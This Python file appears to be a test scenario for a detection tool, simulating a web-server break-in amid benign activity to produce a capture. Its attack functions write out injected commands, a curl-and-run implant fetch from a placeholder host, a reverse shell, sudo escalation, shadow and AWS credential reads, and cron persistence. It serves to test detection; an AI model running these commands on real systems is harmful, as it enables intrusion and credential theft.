"""A story to measure with: a shop's web server is broken into, and everything that goes on beside it on a quiet Monday morning.

The same events on every machine and in every year, so that figures can be compared. Addresses and names are those that documentation may
use; nothing in it ever ran. The demo's capture tells the same story, recorded live.
"""

from dataclasses import dataclass
from pathlib import Path

from firmer.authoring.scenario import Host
from firmer.authoring.scenario.container import Mount
from firmer.authoring.scenario.descriptors import TCP, Descriptor, file, listening
from firmer.authoring.scenario.process import Process
from firmer.authoring.scenario.values import Address

VISITORS = ("192.0.2.10", "192.0.2.77", "192.0.2.140")
ATTACKER, HIDEOUT = "198.51.100.23", "203.0.113.66"
WWW_DATA, POSTGRES = 33, 105
TERMINAL = 34816  # device number of /dev/pts/0
IMPLANT = "/tmp/.cache/kworker"
RUNTIME_SOCKET = "/var/run/docker.sock"


@dataclass
class Cast:
    """Who is there when the story begins."""

    host: Host
    nginx: Process
    php: Process
    postgres: Process
    cron: Process
    sshd: Process
    shim: Process
    app: Process


def cast() -> Cast:
    host = Host(start="2026-01-05T10:00:00Z", name="web-1", ip="10.0.0.5")
    log = file("/var/log/nginx/access.log")
    port = listening(Address("0.0.0.0", 80))
    master = host.process("nginx", exe="/usr/sbin/nginx", fds={5: log, 6: port})
    fpm = Descriptor(8, "/run/php/php-fpm.sock", ino=4711, protocol=TCP, local=Address("/run/php/php-fpm.sock"))
    pool = host.process("php-fpm", exe="/usr/sbin/php-fpm", fds={0: fpm})
    shop = host.container("shop", "registry.example/shop/api:2.3", mounts=(Mount(RUNTIME_SOCKET, RUNTIME_SOCKET),))
    shim = host.process("containerd-shim", "-namespace", "moby")
    return Cast(
        host=host,
        nginx=host.process("nginx", exe="/usr/sbin/nginx", parent=master, uid=WWW_DATA, fds={5: log, 6: port}),
        php=host.process("php-fpm", exe="/usr/sbin/php-fpm", parent=pool, uid=WWW_DATA, cwd="/var/www/shop", fds={0: fpm}),
        postgres=host.process("postgres", exe="/usr/lib/postgresql/15/bin/postgres", uid=POSTGRES, cwd="/var/lib/postgresql/15/main"),
        cron=host.process("cron", "-f", exe="/usr/sbin/cron"),
        sshd=host.process("sshd", "-D", exe="/usr/sbin/sshd", fds={3: listening(Address("0.0.0.0", 22))}),
        shim=shim,
        app=host.process("node", "server.js", exe="/usr/local/bin/node", parent=shim, container=shop, cwd="/app"),
    )


# what goes on every day


def visit(people: Cast, visitor: str, port: int, page: str) -> None:
    """One request, answered from the database."""
    request = people.nginx.accept(6, visitor, port)
    people.nginx.read(request, f"GET {page} HTTP/1.1\r\nHost: shop.example\r\n\r\n")
    people.php.read_file("/var/www/shop/index.php", "<?php require 'lib/shop.php';")
    people.postgres.read_file("/var/lib/postgresql/15/main/base/16384/2619", b"\0" * 64)
    people.nginx.write(request, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<!doctype html>")
    people.nginx.write(5, f'{visitor} - - "GET {page} HTTP/1.1" 200 5120\n')
    people.nginx.close(request)
    people.host.wait(0.4)


def rotate_logs(people: Cast) -> None:
    """A job of cron's: a shell that a service started, and nobody minds."""
    job = people.cron.spawn("/bin/sh", "-c", "/usr/sbin/logrotate /etc/logrotate.conf")
    logrotate = job.spawn("/usr/sbin/logrotate", "/etc/logrotate.conf")
    logrotate.read_file("/etc/logrotate.conf", "weekly\nrotate 4\n")
    logrotate.rename("/var/log/nginx/access.log.1", "/var/log/nginx/access.log.2")
    logrotate.exit()
    job.exit()


def log_in(people: Cast) -> None:
    """Anna logs in: sshd reads the password hashes, which is what it is for."""
    connection = people.sshd.accept(3, "10.0.0.31", 50122)
    session = people.sshd.spawn("/usr/sbin/sshd", "-R")
    session.read_file("/etc/shadow", "root:*:19700:0:99999:7:::\n")
    session.close(connection)
    shell = session.fork()
    shell.setuid(1000)
    shell.tty = TERMINAL
    shell.execve("/bin/bash", argv0="-bash")
    shell.run("uptime")
    shell.exit()
    session.exit()


def look_after_the_container(people: Cast) -> None:
    """The runtime's health check: a shell in the container, without a person in front of it."""
    runc = people.shim.spawn("runc", "exec", "shop")
    check = runc.spawn("/bin/sh", "-c", "curl -fs http://127.0.0.1:3000/health", container=people.app.container)
    curl = check.spawn("curl", "-fs", "http://127.0.0.1:3000/health")
    curl.connect("127.0.0.1", 3000)
    curl.exit()
    check.exit()
    runc.exit()


def update_packages(people: Cast) -> None:
    """The package manager installs a job: it may."""
    apt = people.cron.spawn("/usr/bin/apt-get", "-qq", "upgrade")
    dpkg = apt.spawn("/usr/bin/dpkg", "--configure", "-a")
    dpkg.write_file("/etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system\n")
    dpkg.exit()
    apt.exit()


def quiet(people: Cast, seconds: float) -> None:
    for number, visitor in enumerate(VISITORS):
        visit(people, visitor, 49_000 + number, "/products" if number else "/")
    people.host.wait(seconds)


# what happened on that day


def command(people: Cast, line: str) -> Process:
    """A request to the page with the hole; the page runs what stands in it."""
    request = people.nginx.accept(6, ATTACKER, 40_112)
    people.nginx.read(request, f"POST /upload.php HTTP/1.1\r\n\r\nname=x;{line}")
    people.nginx.close(request)
    return people.php.spawn("/bin/sh", "-c", line)


def look_around(people: Cast) -> None:
    shell = command(people, "id; uname -a")
    shell.run("id")
    shell.run("uname", "-a")
    shell.exit()


def bring_the_implant(people: Cast) -> Process:
    """Fetch it, make it executable, run it."""
    shell = command(people, f"curl -so {IMPLANT} http://{HIDEOUT}/k && chmod +x {IMPLANT} && {IMPLANT}")
    shell.mkdir("/tmp/.cache")
    curl = shell.spawn("curl", "-so", IMPLANT, f"http://{HIDEOUT}/k")
    connection = curl.connect(HIDEOUT, 80)
    curl.send(connection, f"GET /k HTTP/1.1\r\nHost: {HIDEOUT}\r\n\r\n")
    curl.receive(connection, b"HTTP/1.1 200 OK\r\n\r\n\x7fELF")
    curl.write_file(IMPLANT, b"\x7fELF\x02\x01\x01", "x")
    curl.exit()
    chmod = shell.spawn("/bin/chmod", "+x", IMPLANT)
    chmod.chmod(IMPLANT, 0o755)
    chmod.exit()
    implant = shell.spawn(IMPLANT, argv0=IMPLANT)
    implant.open("/etc/shadow", error="EACCES")
    return implant


def call_back(implant: Process) -> Process:
    """A shell whose commands come from the attacker's own machine."""
    shell = implant.spawn("/bin/bash", "-i")
    connection = shell.connect(HIDEOUT, 4444)
    for number in (0, 1, 2):
        shell.dup2(connection, number)
    shell.read(0, "whoami\n")
    shell.run("whoami")
    shell.write(1, "www-data\n")
    return shell


def take_over(shell: Process) -> Process:
    """sudo without a password, left from the days of setting up."""
    shell.read(0, "sudo -n bash\n")
    sudo = shell.spawn("sudo", "-n", "bash")
    sudo.setuid(0)
    root = sudo.spawn("/bin/bash")
    cat = root.spawn("/bin/cat", "/etc/shadow")
    hashes = cat.open("/etc/shadow")
    cat.read(hashes, "root:$y$j9T$e8Fq:19700:0:99999:7:::\n")
    cat.write(1, "root:$y$j9T$e8Fq:19700:0:99999:7:::\n")
    cat.close(hashes)
    cat.exit()
    root.write_file("/etc/cron.d/sysupdate", f"*/5 * * * * root {IMPLANT}\n", "x")
    return root


def step_into_the_container(people: Cast, root: Process) -> None:
    docker = root.spawn("docker", "exec", "-it", "shop", "sh")
    docker.connect(RUNTIME_SOCKET)
    runc = people.shim.spawn("runc", "exec", "-it", "shop")
    runc.tty = TERMINAL
    shell = runc.spawn("/bin/sh", container=people.app.container)
    cat = shell.spawn("/bin/cat", "/root/.aws/credentials")
    cat.read_file("/root/.aws/credentials", "[default]\naws_access_key_id = EXAMPLE\n")
    cat.exit()
    curl = shell.spawn("curl", "--unix-socket", RUNTIME_SOCKET, "http://docker/containers/json")
    curl.connect(RUNTIME_SOCKET)
    curl.exit()
    shell.exit()
    docker.exit()


def attack() -> Host:
    """The whole story."""
    people = cast()
    quiet(people, 12)
    rotate_logs(people)
    log_in(people)
    quiet(people, 20)
    look_around(people)
    look_after_the_container(people)
    quiet(people, 15)
    implant = bring_the_implant(people)
    update_packages(people)
    quiet(people, 4)
    shell = call_back(implant)
    quiet(people, 25)
    root = take_over(shell)
    look_after_the_container(people)
    quiet(people, 10)
    step_into_the_container(people, root)
    quiet(people, 5)
    return people.host


def capture(folder: Path) -> Path:
    """Writes the story into the folder."""
    path = folder / "attack.scap.gz"
    attack().write(path)
    return path
